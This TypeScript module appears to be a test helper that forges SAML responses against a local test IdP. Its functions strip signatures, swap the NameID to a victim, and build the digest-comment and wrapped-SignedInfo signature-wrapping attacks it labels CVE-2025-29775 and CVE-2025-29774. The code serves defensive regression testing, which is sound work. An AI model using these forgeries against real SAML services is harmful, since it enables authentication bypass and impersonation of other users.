import { idpResponse, toBase64, type ResponseOptions } from './test-idp.js';

// What an attacker does to a response between the IdP and the ACS. samlify's output has a
// fixed shape (saml:, samlp: and ds: prefixes, no whitespace), so string surgery is exact.

export const ASSERTION = /<saml:Assertion[\s>][\s\S]*<\/saml:Assertion>/;
const SIGNATURE = /<ds:Signature[\s>][\s\S]*?<\/ds:Signature>/;
const SIGNED_INFO = /<ds:SignedInfo>[\s\S]*?<\/ds:SignedInfo>/;
const DIGEST = /<ds:DigestValue>([^<]*)<\/ds:DigestValue>/;

export const assertionOf = (xml: string) => ASSERTION.exec(xml)![0];
export const withoutSignatures = (xml: string) => xml.replace(new RegExp(SIGNATURE, 'g'), '');
export const replaceNameId = (xml: string, from: string, to: string) =>
  xml.replace(`>${from}</saml:NameID>`, `>${to}</saml:NameID>`);

/** The same assertion with another ID and no signature: what a wrapping attack smuggles in. */
export function unsignedCopy(assertion: string, nameId: { from: string; to: string }): string {
  return replaceNameId(withoutSignatures(assertion), nameId.from, nameId.to).replace(/ ID="[^"]+"/, ' ID="_evil"');
}

/**
 * A legitimate response for `options.nameId`, and the same assertion made out to `victim` (by
 * default with the same ID) signed by the attacker: its DigestValue is the digest the IdP would
 * have put there, since a digest depends on the content alone.
 */
export async function legitAndForged(options: ResponseOptions & { nameId: string }, victim: string, forgedId?: string) {
  const now = Date.now();
  const assertionId = `_a${now}${Math.random().toString(16).slice(2)}`;
  const legit = await idpResponse({ ...options, now, assertionId });
  const forged = await idpResponse({
    ...options,
    nameId: victim,
    now,
    assertionId: forgedId ?? assertionId,
    key: 'attacker',
  });
  const forgedAssertion = assertionOf(forged.xml);
  return {
    legit,
    forgedAssertion,
    forgedDigest: DIGEST.exec(forgedAssertion)![1]!,
    forgedSignedInfo: SIGNED_INFO.exec(forgedAssertion)![0],
  };
}

/** CVE-2025-29775: the NameID edited, and the matching digest hidden in a comment before the real one. */
export async function digestCommentAttack(
  options: ResponseOptions & { nameId: string },
  victim: string,
): Promise<string> {
  const { legit, forgedDigest } = await legitAndForged(options, victim);
  const edited = replaceNameId(legit.xml, options.nameId, victim).replace(
    DIGEST,
    (_all, real: string) => `<ds:DigestValue><!--${forgedDigest}-->${real}</ds:DigestValue>`,
  );
  return toBase64(edited);
}

/**
 * CVE-2025-29774: the victim's assertion (its own ID) carries the IdP's genuine signature, with a
 * second SignedInfo that references it (and has its digest) wrapped inside; the genuine assertion
 * that the real SignedInfo references is moved where no one reads it.
 */
export async function wrappedSignedInfoAttack(
  options: ResponseOptions & { nameId: string },
  victim: string,
): Promise<string> {
  const { legit, forgedAssertion, forgedSignedInfo } = await legitAndForged(options, victim, '_victim');
  const genuine = assertionOf(legit.xml);
  const genuineSignature = SIGNATURE.exec(genuine)![0];
  const wrapped = genuineSignature.replace('<ds:SignedInfo>', `<Wrapper>${forgedSignedInfo}</Wrapper><ds:SignedInfo>`);
  const victimAssertion = forgedAssertion.replace(SIGNATURE, wrapped);
  const forged = legit.xml
    .replace(genuine, victimAssertion)
    .replace('<samlp:Status>', `<samlp:Extensions>${genuine}</samlp:Extensions><samlp:Status>`);
  return toBase64(forged);
}
